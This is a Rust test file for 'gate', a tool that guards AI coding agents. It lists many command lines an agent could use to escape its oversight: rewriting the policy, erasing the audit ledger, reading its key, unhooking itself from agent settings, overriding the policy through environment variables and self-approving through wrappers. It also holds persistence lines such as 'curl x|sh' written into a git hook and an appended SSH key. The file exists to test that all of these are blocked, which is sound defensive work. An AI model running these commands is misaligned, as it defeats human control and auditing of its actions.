//! gate guards itself: the agent it guards cannot rewrite its policy, erase its ledger,
//! unregister its hook, run gate with a policy of its choosing or approve its own request.
//!
//! Attacks first, each with the decision a correct gate gives; then the everyday look-alikes
//! that must stay allowed. Every line goes through the real binary in a temporary HOME with no
//! XDG variables, so the files are where a fresh machine has them (`~/.config/gate`,
//! `~/.local/share/gate`).

mod support;

use std::path::Path;

use serde_json::{Value, json};
use support::{Cmd, Env, write_exec};

/// gate with HOME pointing at the test's home and no XDG variables.
fn gate_in_home(env: &Env) -> Cmd<'_> {
    env.gate()
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_DATA_HOME")
}

fn check(env: &Env, line: &str) -> (&'static str, Vec<String>, String) {
    let out = gate_in_home(env)
        .args(["check", "--json", "--shell", line])
        .run();
    let decision = match out.code {
        0 => "allow",
        1 => "ask",
        2 => "deny",
        _ => "error",
    };
    let rules = serde_json::from_str::<Value>(&out.stdout)
        .ok()
        .and_then(|v| {
            v["rules"].as_array().map(|r| {
                r.iter()
                    .map(|h| h["rule"].as_str().unwrap_or("").to_string())
                    .collect()
            })
        })
        .unwrap_or_default();
    (decision, rules, format!("{}{}", out.stdout, out.stderr))
}

/// (line, decision, a rule that must be among the matches)
const ATTACKS: &[(&str, &str, &str)] = &[
    // The user policy, by every way of writing a file.
    (
        r#"printf '[defaults]\ndecision="allow"\n' > ~/.config/gate/policy.toml"#,
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x >> ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x >| $HOME/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x &> ${HOME}/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x 2> ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "exec 3<> ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "true > ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    ("> ~/.config/gate/policy.toml", "deny", "gate.protect.state"),
    (
        "sed -i s/deny/allow/ ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "sed -i.bak -e s/a/b/ ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "perl -pi -e s/deny/allow/ ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "ln -sf /tmp/allow.toml ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "mv /tmp/allow.toml ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "mv ~/.config/gate ~/.config/gate.off",
        "deny",
        "gate.protect.state",
    ),
    (
        "cp /tmp/allow.toml ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "cp /tmp/allow.toml ~/.config/gate/",
        "deny",
        "gate.protect.state",
    ),
    (
        "install -m 644 /tmp/a.toml ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "rsync /tmp/a.toml ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "dd if=/tmp/a.toml of=$HOME/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x | tee ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x | sudo tee -a ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "tee 2>/dev/null ~/.config/gate/policy.toml < /tmp/a",
        "deny",
        "gate.protect.state",
    ),
    (
        "truncate -s 0 ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "shred -u ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "chmod 666 ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "chown nobody ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "vim ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "nano ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "unlink ~/.config/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "cd ~/.config/gate && echo x > policy.toml",
        "deny",
        "gate.protect.state",
    ),
    ("cd ~/.config && rm -rf gate", "deny", "gate.protect.state"),
    (
        "env -C ~/.config/gate sh -c 'echo x > policy.toml'",
        "deny",
        "gate.protect.state",
    ),
    (
        "env --chdir=/HOME/.config/gate tee policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "echo x > ~/.config/gate/../gate/./policy.toml",
        "deny",
        "gate.protect.state",
    ),
    (
        "bash -c 'echo x > ~/.config/gate/policy.toml'",
        "deny",
        "gate.protect.state",
    ),
    (
        "sh -c \"rm ~/.config/gate/policy.toml\"",
        "deny",
        "gate.protect.state",
    ),
    (
        r#"python3 -c "open('/HOME/.config/gate/policy.toml','w').write('')""#,
        "deny",
        "gate.protect.state",
    ),
    (
        r#"python3 -c "import os; open(os.path.expanduser('~/.config/gate/policy.toml'),'w')""#,
        "deny",
        "gate.protect.state",
    ),
    (
        r#"node -e "require('fs').writeFileSync(process.env.HOME+'/.claude/settings.json','{}')""#,
        "deny",
        "gate.protect.hooks",
    ),
    // The system policy.
    (
        "echo x | sudo tee /etc/gate/policy.toml",
        "deny",
        "gate.protect.state",
    ),
    ("sudo rm -rf /etc/gate", "deny", "gate.protect.state"),
    // The ledger and its siblings.
    (
        "rm -f ~/.local/share/gate/ledger.db*",
        "deny",
        "gate.protect.state",
    ),
    ("rm -rf ~/.local/share/gate", "deny", "gate.protect.state"),
    ("rm -rf ~/.local", "deny", "gate.protect.state"),
    (
        ": > ~/.local/share/gate/ledger.db.intake",
        "deny",
        "gate.protect.state",
    ),
    (
        "cp /dev/null ~/.local/share/gate/ledger.db.checkpoints",
        "deny",
        "gate.protect.state",
    ),
    (
        "rm ~/.local/share/gate/ledger.db-wal",
        "deny",
        "gate.protect.state",
    ),
    (
        "truncate -s0 ~/.local/share/gate/ledger.db.checkpoints.posted",
        "deny",
        "gate.protect.state",
    ),
    (
        "sqlite3 ~/.local/share/gate/ledger.db 'DROP TRIGGER events_no_delete; DELETE FROM events'",
        "deny",
        "gate.protect.state",
    ),
    (
        r#"python3 -c "import sqlite3; sqlite3.connect('/HOME/.local/share/gate/ledger.db').execute('delete from events')""#,
        "deny",
        "gate.protect.state",
    ),
    (
        "chmod 000 ~/.local/share/gate/ledger.db",
        "deny",
        "gate.protect.state",
    ),
    (
        "find ~/.local/share/gate -delete",
        "deny",
        "gate.protect.state",
    ),
    // The ledger key: not even read.
    (
        "cat ~/.local/share/gate/ledger.db.key",
        "deny",
        "gate.protect.key",
    ),
    (
        "base64 < ~/.local/share/gate/ledger.db.key",
        "deny",
        "gate.protect.key",
    ),
    // The shims.
    (
        "rm -rf ~/.local/share/gate/shims",
        "deny",
        "gate.protect.state",
    ),
    ("gate shim remove kubectl", "ask", "gate.self.change"),
    ("gate init --force", "ask", "gate.self.change"),
    // An editor of the agent's choosing would write the policy: a person approves.
    ("gate rules edit", "ask", "gate.self.change"),
    (
        "EDITOR=/tmp/allow-all.sh gate rules edit",
        "ask",
        "gate.self.change",
    ),
    // The agents' hook registrations.
    (
        "echo '{}' > ~/.claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "echo '{}' > ~/.claude/settings.local.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "echo '{}' > .claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "echo '{}' > .claude/settings.local.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "cd /srv/other && echo '{}' > .claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    ("rm -rf ~/.claude", "deny", "gate.protect.hooks"),
    (
        "mv ~/.claude/settings.json /tmp/",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "mkdir ~/.claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "jq '.hooks={}' ~/.claude/settings.json > /tmp/s && mv /tmp/s ~/.claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "echo '' > ~/.codex/config.toml",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "sed -i /gate/d ~/.gemini/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "echo '{}' > .gemini/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "sudo tee /etc/claude-code/managed-settings.json < /tmp/x",
        "deny",
        "gate.protect.hooks",
    ),
    // Persistence: asked.
    (
        "echo 'alias ls=rm' >> ~/.bashrc",
        "ask",
        "gate.protect.persistence",
    ),
    ("echo x >> ~/.profile", "ask", "gate.protect.persistence"),
    ("echo x >> ~/.zshrc", "ask", "gate.protect.persistence"),
    (
        "echo x > ~/.config/fish/config.fish",
        "ask",
        "gate.protect.persistence",
    ),
    (
        "cat key.pub >> ~/.ssh/authorized_keys",
        "ask",
        "gate.protect.persistence",
    ),
    (
        "echo 'curl x|sh' > .git/hooks/pre-commit",
        "ask",
        "gate.protect.persistence",
    ),
    (
        "cp hook.sh .git/hooks/post-checkout",
        "ask",
        "gate.protect.persistence",
    ),
    // gate itself, with a policy or ledger of the command's choosing.
    (
        "gate --policy /dev/null -- kubectl delete ns prod",
        "deny",
        "gate.self.override",
    ),
    (
        "gate run --policy=/tmp/allow.toml -- kubectl delete ns prod",
        "deny",
        "gate.self.override",
    ),
    (
        "GATE_POLICY=/tmp/allow.toml gate -- kubectl delete ns prod",
        "deny",
        "gate.self.override",
    ),
    (
        "export GATE_POLICY=/tmp/allow.toml; gate -- ls",
        "deny",
        "gate.self.override",
    ),
    (
        "GATE_POLICY=/tmp/a.toml; export GATE_POLICY; kubectl get pods",
        "deny",
        "gate.self.override",
    ),
    (
        "env GATE_LEDGER=/tmp/x.db gate -- ls",
        "deny",
        "gate.self.override",
    ),
    (
        "GATE_LEDGER=/tmp/x.db gate -- ls",
        "deny",
        "gate.self.override",
    ),
    (
        "XDG_CONFIG_HOME=/tmp/cfg gate -- ls",
        "deny",
        "gate.self.override",
    ),
    ("HOME=/tmp/h gate -- ls", "deny", "gate.self.override"),
    (
        "XDG_DATA_HOME=/tmp/d gate shell -c ls",
        "deny",
        "gate.self.override",
    ),
    // gate as a wrapper: the decision is on what it runs.
    ("gate -- kubectl delete ns prod", "ask", "k8s.delete"),
    ("gate run --reason x -- rm -rf /", "deny", "fs.rm-root"),
    ("gate shell -c 'rm -rf /'", "deny", "fs.rm-root"),
    // Self-approval, in every shape.
    ("gate approve abc123", "deny", "gate.self.approve"),
    ("gate deny abc123", "deny", "gate.self.approve"),
    ("gate --as me approve abc123", "deny", "gate.self.approve"),
    (
        "gate \"$(printf approve)\" abc123",
        "deny",
        "gate.self.approve",
    ),
    ("gate $SUB abc123", "deny", "gate.self.approve"),
    (
        "script -qfc 'gate approve abc123' /dev/null",
        "deny",
        "gate.self.approve",
    ),
    (
        "env -u CLAUDECODE script -qc 'gate approve abc123' /dev/null",
        "deny",
        "gate.self.approve",
    ),
    (
        "env -i PATH=/usr/bin gate approve abc123",
        "deny",
        "gate.self.approve",
    ),
    ("setsid gate approve abc123", "deny", "gate.self.approve"),
    ("unbuffer gate approve abc123", "deny", "gate.self.approve"),
    (
        "expect -c 'spawn gate approve abc123; expect eof'",
        "deny",
        "gate.self.approve",
    ),
    ("bash -c 'gate approve abc123'", "deny", "gate.self.approve"),
    ("yes | gate approve abc123", "deny", "gate.self.approve"),
    (
        r#"python3 -c 'import pty; pty.spawn(["gate", "approve", "abc123"])'"#,
        "deny",
        "gate.self.approve",
    ),
    (
        r#"perl -e 'system("gate approve abc123")'"#,
        "deny",
        "gate.self.approve",
    ),
    (
        "bash <<'EOF'\ngate approve abc123\nEOF",
        "deny",
        "gate.self.approve",
    ),
    ("sh <<< 'gate approve abc123'", "deny", "gate.self.approve"),
    (
        "(sleep 1; printf y) | script -qfc 'gate -- kubectl delete ns prod' /dev/null",
        "ask",
        "k8s.delete",
    ),
    // Writes gate cannot resolve that could reach a protected file: asked.
    ("echo x > \"$F\"", "ask", "gate.protect.unresolved"),
    ("cp /tmp/a \"$HOME/$P\"", "ask", "gate.protect.unresolved"),
    (
        "echo x > \"$D/policy.toml\"",
        "ask",
        "gate.protect.unresolved",
    ),
    (
        "cd \"$X\" && echo '{}' > .claude/settings.json",
        "deny",
        "gate.protect.hooks",
    ),
    (
        "cd \"$X\" && echo x > ledger.db.intake",
        "ask",
        "gate.protect.unresolved",
    ),
];

/// Everyday work around gate's files that must stay allowed.
const CONTROLS: &[&str] = &[
    "cat ~/.config/gate/policy.toml",
    "less ~/.config/gate/policy.toml",
    "jq . ~/.claude/settings.json",
    "grep hooks ~/.claude/settings.json",
    "cp ~/.config/gate/policy.toml /tmp/backup.toml",
    "cp .claude/settings.json /tmp/settings.json",
    "diff ~/.config/gate/policy.toml /tmp/backup.toml",
    "ls -la ~/.config/gate ~/.local/share/gate",
    "stat ~/.local/share/gate/ledger.db",
    "sqlite3 -readonly ~/.local/share/gate/ledger.db 'select count(*) from events'",
    "mkdir -p ~/.config/gate",
    "mkdir -p ~/.claude",
    "gate log",
    "gate log -n 5 --json",
    "gate show abc123",
    "gate verify",
    "gate pending",
    "gate check -- kubectl delete ns prod",
    "gate check --shell 'rm -rf /'",
    "gate rules lint",
    "gate rules list --json",
    "gate rules show git.force-push",
    "gate rules lint ~/.config/gate/policy.toml",
    "gate -- ls",
    "gate run -- cargo test",
    "gate init",
    "gate shim list",
    "git commit -m \"explain gate approve\"",
    "git commit -m 'edit ~/.config/gate/policy.toml by hand'",
    "echo \"gate approve\"",
    "echo 'rm ~/.config/gate/policy.toml'",
    "grep -r 'gate approve' docs/",
    "echo x > /tmp/out.txt",
    "echo x > out.txt 2>&1",
    "cargo test 2>&1 | tail -5",
    "make > build.log 2>&1",
    "echo x > \"$OUT/result.txt\"",
    "echo x > \"/tmp/build-$N.log\"",
    "cd \"$DIR\" && make > build.log",
    "rm -rf target",
    "rm -rf ./build /tmp/scratch",
    "find . -name '*.pyc' -print",
    "sed -i s/a/b/ src/main.rs",
    "echo ok > ~/.config/other-tool/config",
    "vim notes.md",
    "git status",
    "git diff .claude/settings.json",
    "git add .claude/settings.json",
    "cat .git/hooks/pre-commit.sample",
    "cat ~/.bashrc",
    "HOME=/tmp/h npm install",
    "export PATH=$PATH:/opt/bin",
    "unset GATE_POLICY GATE_LEDGER",
    "kubectl get pods",
];

#[test]
fn attacks_on_gate_itself_are_stopped() {
    let env = Env::new();
    let home = env.home();
    let mut failures = Vec::new();
    for (line, want, rule) in ATTACKS {
        let line = line.replace("/HOME/", &format!("{}/", home.display()));
        let (got, rules, raw) = check(&env, &line);
        if got != *want || !rules.iter().any(|r| r == rule) {
            failures.push(format!(
                "  {line:?}: expected {want} by {rule}, got {got} {rules:?}\n      {raw}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} attacks not stopped as expected:\n{}",
        failures.len(),
        ATTACKS.len(),
        failures.join("\n")
    );
}

#[test]
fn everyday_work_around_gates_files_stays_allowed() {
    let env = Env::new();
    let mut failures = Vec::new();
    for line in CONTROLS {
        let (got, rules, raw) = check(&env, line);
        if got != "allow" {
            failures.push(format!("  {line:?}: got {got} {rules:?}\n      {raw}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} everyday lines not allowed:\n{}",
        failures.len(),
        CONTROLS.len(),
        failures.join("\n")
    );
}

/// The XDG variables move the files, and the protection moves with them.
#[test]
fn protected_paths_follow_xdg_and_gate_ledger() {
    let env = Env::new();
    // XDG directories away from their defaults under HOME.
    let config = env.path("config");
    let data = env.path("data");
    let gate = || {
        env.gate()
            .env("XDG_CONFIG_HOME", &config)
            .env("XDG_DATA_HOME", &data)
    };
    let custom = env.path("elsewhere/audit.db");
    let cases = [
        (
            format!("echo x > {}/gate/policy.toml", config.display()),
            "deny",
        ),
        (
            "echo x > \"$XDG_CONFIG_HOME/gate/policy.toml\"".to_string(),
            "deny",
        ),
        ("rm \"${XDG_DATA_HOME}/gate/ledger.db\"".to_string(), "deny"),
        (format!("rm {}/gate/ledger.db-shm", data.display()), "deny"),
        // With XDG set, ~/.config/gate is not gate's.
        ("echo x > ~/.config/gate/notes.txt".to_string(), "allow"),
    ];
    for (line, want) in &cases {
        let out = gate().args(["check", "--shell", line]).run();
        let got = ["allow", "ask", "deny"][out.code.clamp(0, 2) as usize];
        assert_eq!(got, *want, "{line}: {}", out.stderr);
    }
    // GATE_LEDGER and GATE_POLICY name files the protection then covers.
    let policy = env.work().join("team.toml");
    std::fs::write(&policy, "[defaults]\ndecision = \"allow\"\n").unwrap();
    for (line, want) in [
        (format!("rm {}-wal", custom.display()), "deny"),
        (format!("echo > {}.intake", custom.display()), "deny"),
        ("echo x > team.toml".to_string(), "deny"),
        ("echo x > other.toml".to_string(), "allow"),
    ] {
        let out = gate()
            .env("GATE_LEDGER", &custom)
            .env("GATE_POLICY", &policy)
            .args(["check", "--shell", &line])
            .run();
        let got = ["allow", "ask", "deny"][out.code.clamp(0, 2) as usize];
        assert_eq!(got, want, "{line}: {}", out.stderr);
    }
}

/// A symlink or hard link made earlier points at a protected file: writing through it is
/// writing the file.
#[test]
fn links_to_protected_files_are_seen_through() {
    let env = Env::new();
    let policy = env.home().join(".config/gate/policy.toml");
    std::fs::create_dir_all(policy.parent().unwrap()).unwrap();
    std::fs::write(&policy, "[defaults]\ndecision = \"allow\"\n").unwrap();
    std::os::unix::fs::symlink(&policy, env.work().join("p.toml")).unwrap();
    std::os::unix::fs::symlink(policy.parent().unwrap(), env.work().join("cfg")).unwrap();
    std::fs::hard_link(&policy, env.work().join("hard.toml")).unwrap();
    for line in [
        "echo x > p.toml",
        "echo x > cfg/policy.toml",
        "echo x > hard.toml",
        "sed -i s/a/b/ hard.toml",
    ] {
        let (got, rules, raw) = check(&env, line);
        assert_eq!(got, "deny", "{line}: {rules:?} {raw}");
    }
    let (got, _, raw) = check(&env, "cat p.toml hard.toml");
    assert_eq!(got, "allow", "{raw}");
}

/// The hook's input for one of Claude Code's file tools.
fn file_tool(tool: &str, input: Value) -> String {
    json!({
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": input,
        "cwd": "/srv/app",
        "session_id": "sess-f",
        "tool_use_id": format!("tu-{tool}"),
    })
    .to_string()
}

fn hook(env: &Env, agent: &str, input: &str) -> (i32, String, String) {
    let out = gate_in_home(env).args(["hook", agent]).stdin(input).run();
    (out.code, out.stdout, out.stderr)
}

fn claude_decision(stdout: &str) -> String {
    serde_json::from_str::<Value>(stdout.lines().next().unwrap_or("{}"))
        .ok()
        .and_then(|v| {
            v["hookSpecificOutput"]["permissionDecision"]
                .as_str()
                .map(str::to_string)
        })
        .unwrap_or_default()
}

#[test]
fn agent_file_tools_cannot_write_protected_files() {
    let env = Env::new();
    let home = env.home();
    let h = |rel: &str| home.join(rel).display().to_string();
    let attacks = [
        (
            "Write",
            json!({"file_path": h(".config/gate/policy.toml"), "content": "[defaults]\ndecision='allow'\n"}),
        ),
        (
            "Edit",
            json!({"file_path": h(".claude/settings.json"), "old_string": "gate", "new_string": "true"}),
        ),
        (
            "MultiEdit",
            json!({"file_path": h(".local/share/gate/ledger.db.intake"), "edits": []}),
        ),
        (
            "NotebookEdit",
            json!({"notebook_path": h(".codex/config.toml"), "new_source": ""}),
        ),
        (
            "Write",
            json!({"file_path": "/srv/app/.claude/settings.local.json", "content": "{}"}),
        ),
        (
            "Write",
            json!({"file_path": ".gemini/settings.json", "content": "{}"}),
        ),
    ];
    for (tool, input) in attacks {
        let (status, out, err) = hook(&env, "claude-code", &file_tool(tool, input.clone()));
        assert_eq!(status, 0, "{tool} {input}: {err}");
        assert_eq!(claude_decision(&out), "deny", "{tool} {input}: {out} {err}");
        assert!(out.contains("gate.protect"), "{out}");
    }
    // Persistence through a file tool is asked.
    let (_, out, _) = hook(
        &env,
        "claude-code",
        &file_tool("Write", json!({"file_path": h(".bashrc"), "content": "x"})),
    );
    assert_eq!(claude_decision(&out), "ask", "{out}");
    // Ordinary files and other tools pass through as before: no answer, exit 0.
    for (tool, input) in [
        (
            "Write",
            json!({"file_path": "/srv/app/src/main.rs", "content": "fn main() {}"}),
        ),
        (
            "Edit",
            json!({"file_path": "README.md", "old_string": "a", "new_string": "b"}),
        ),
        ("Read", json!({"file_path": h(".config/gate/policy.toml")})),
        ("Grep", json!({"pattern": "gate", "path": h(".claude")})),
    ] {
        let (status, out, err) = hook(&env, "claude-code", &file_tool(tool, input.clone()));
        assert_eq!((status, out.as_str()), (0, ""), "{tool} {input}: {err}");
    }
    // The denials are in the ledger.
    let log = gate_in_home(&env).args(["log", "--json"]).run().stdout;
    assert!(
        log.contains("gate.protect.state") || log.contains("\"denied\""),
        "{log}"
    );
    // A write tool that names no path is refused.
    let (status, out, _) = hook(
        &env,
        "claude-code",
        &file_tool("Write", json!({"content": "x"})),
    );
    assert_eq!(
        (status, claude_decision(&out).as_str()),
        (2, "deny"),
        "{out}"
    );
}

#[test]
fn gemini_and_codex_file_writes_are_judged_too() {
    let env = Env::new();
    let policy = env
        .home()
        .join(".config/gate/policy.toml")
        .display()
        .to_string();
    let gemini = json!({
        "hook_event_name": "BeforeTool",
        "tool_name": "write_file",
        "tool_input": {"file_path": policy, "content": "x"},
        "cwd": "/srv/app",
        "session_id": "g",
    })
    .to_string();
    // Gemini honours its JSON deny with exit 0 (issue 14).
    let (status, out, _) = hook(&env, "gemini", &gemini);
    assert_eq!(status, 0, "{out}");
    assert!(out.contains("\"decision\":\"deny\""), "{out}");
    let patch = format!(
        "*** Begin Patch\n*** Update File: src/lib.rs\n@@\n-a\n+b\n*** Delete File: {}/.claude/settings.json\n*** End Patch\n",
        env.home().display()
    );
    let codex = json!({
        "hook_event_name": "PreToolUse",
        "tool_name": "apply_patch",
        "tool_input": {"command": patch},
        "cwd": "/srv/app",
        "session_id": "c",
        "tool_use_id": "t1",
    })
    .to_string();
    let (status, _, err) = hook(&env, "codex", &codex);
    assert_eq!(status, 2, "{err}");
    assert!(err.contains("gate.protect.hooks"), "{err}");
    // An ordinary patch passes.
    let ordinary = codex.replace(".claude/settings.json", "src/old.rs");
    let (status, _, err) = hook(&env, "codex", &ordinary);
    assert_eq!(status, 0, "{err}");
}

/// The whole attack, as the agent would run it: each command goes through the hook first and
/// runs only when the hook allows it. Overwriting the policy is refused, so deleting the
/// namespace still needs a person, and the namespace is left alone.
#[test]
fn an_agent_cannot_loosen_the_policy_then_delete_a_namespace() {
    let env = Env::new();
    let bin = env.path("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let namespace = env.path("namespace-prod");
    std::fs::write(&namespace, "alive").unwrap();
    write_exec(
        &bin.join("kubectl"),
        &format!(
            "#!/bin/sh\n[ \"$1 $2 $3\" = 'delete ns prod' ] && rm -f {}\n",
            namespace.display()
        ),
    );
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let steps = [
        r#"mkdir -p ~/.config/gate && printf '[defaults]\ndecision = "allow"\npacks = []\n' > ~/.config/gate/policy.toml"#,
        "cp /dev/null ~/.local/share/gate/ledger.db.intake",
        "GATE_POLICY=/dev/null gate -- kubectl delete ns prod",
        "gate --policy /dev/null -- kubectl delete ns prod",
        "kubectl delete ns prod",
    ];
    for (i, step) in steps.iter().enumerate() {
        let input = json!({
            "hook_event_name": "PreToolUse",
            "tool_name": "Bash",
            "tool_input": {"command": step},
            "cwd": env.work(),
            "session_id": "attack",
            "tool_use_id": format!("step-{i}"),
        })
        .to_string();
        let out = gate_in_home(&env)
            .env("PATH", &path)
            .args(["hook", "claude-code"])
            .stdin(&input)
            .run();
        let decision = claude_decision(&out.stdout);
        assert_ne!(decision, "", "step {step}: {}", out.stderr);
        if decision == "allow" {
            // The agent runs what it was allowed, as Claude Code would.
            env.program("sh")
                .args(["-c", step])
                .env("PATH", &path)
                .run();
        }
        if i < 4 {
            assert_eq!(
                decision, "deny",
                "step {step} must be denied: {}",
                out.stdout
            );
        } else {
            assert_eq!(
                decision, "ask",
                "the delete still needs a person: {}",
                out.stdout
            );
        }
    }
    assert!(namespace.exists(), "the namespace was deleted");
    assert!(!Path::new(&env.home().join(".config/gate/policy.toml")).exists());
}

/// Every error in a hook call answers deny with exit status 2, never another code: an agent
/// reads anything else as "go ahead".
#[test]
fn every_hook_error_path_denies_with_exit_2() {
    let allowed = |tool_use: &str| support::pre_tool_use("git status", tool_use);
    // Unwritable intake: a directory where the intake file goes.
    let env = Env::new();
    assert_eq!(env.hook(&allowed("first")).0, 0);
    std::fs::create_dir_all(env.state("ledger.db.intake/x")).unwrap();
    let (status, answer, err) = env.hook(&allowed("t2"));
    assert_eq!(status, 2, "unwritable intake: {err}");
    assert_eq!(support::decision(&answer), "deny");

    // Unwritable ledger: a directory where the ledger goes.
    let env = Env::new();
    std::fs::create_dir_all(env.state("ledger.db/x")).unwrap();
    let (status, answer, err) = env.hook(&allowed("t3"));
    assert_eq!(status, 2, "unwritable ledger: {err}");
    assert_eq!(support::decision(&answer), "deny");

    // Corrupt ledger.
    let env = Env::new();
    std::fs::create_dir_all(env.state("")).unwrap();
    std::fs::write(env.ledger(), vec![0x5a; 8192]).unwrap();
    let (status, answer, err) = env.hook(&allowed("t4"));
    assert_eq!(status, 2, "corrupt ledger: {err}");
    assert_eq!(support::decision(&answer), "deny");
    // PostToolUse against it is refused the same way.
    let post = json!({
        "hook_event_name": "PostToolUse",
        "tool_name": "Bash",
        "tool_input": {"command": "git status"},
        "tool_response": {"stdout": "", "stderr": "", "interrupted": false},
        "cwd": "/srv/app",
        "session_id": "sess-1",
        "tool_use_id": "t4",
    })
    .to_string();
    let (status, _, err) = env.hook(&post);
    assert_eq!(status, 2, "corrupt ledger, PostToolUse: {err}");

    // A full disk: no byte can be written (file size limit 0), on the first call and later.
    let env = Env::new();
    for tool_use in ["full-1", "full-2"] {
        env.program("sh")
            .args(["-c", "ulimit -f 0; exec \"$GATE_BIN\" hook claude-code"])
            .env("GATE_BIN", support::gate_bin())
            .stdin(allowed(tool_use))
            .status(2)
            .stdout_contains("\"deny\"")
            .run();
    }

    // A bad policy.
    let env = Env::new();
    env.policy("[defaults]\ndecision = \"maybe\"\n");
    let (status, answer, err) = env.hook(&allowed("t5"));
    assert_eq!(status, 2, "bad policy: {err}");
    assert_eq!(support::decision(&answer), "deny");
}
